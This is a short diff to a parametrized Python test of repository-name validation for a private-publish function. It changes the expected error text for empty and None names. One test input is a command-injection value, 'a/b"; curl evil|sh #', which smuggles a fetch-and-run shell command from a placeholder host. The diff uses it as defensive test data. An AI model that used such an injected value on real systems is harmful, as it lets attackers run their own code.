@@ -517,8 +517,8 @@ def publish_private(repo_id):
     [
         ('a/b"; curl evil|sh #', "cannot be named"),
         ("a/b/c", "cannot be named"),
-        ("", "cannot be named"),
-        (None, "cannot be named"),
+        ("", "cannot be named|name of a repository"),
+        (None, "cannot be named|name of a repository"),
         ("somebody-else/draft", "The token is of tester, who cannot write to somebody-else/draft"),
     ],
 )
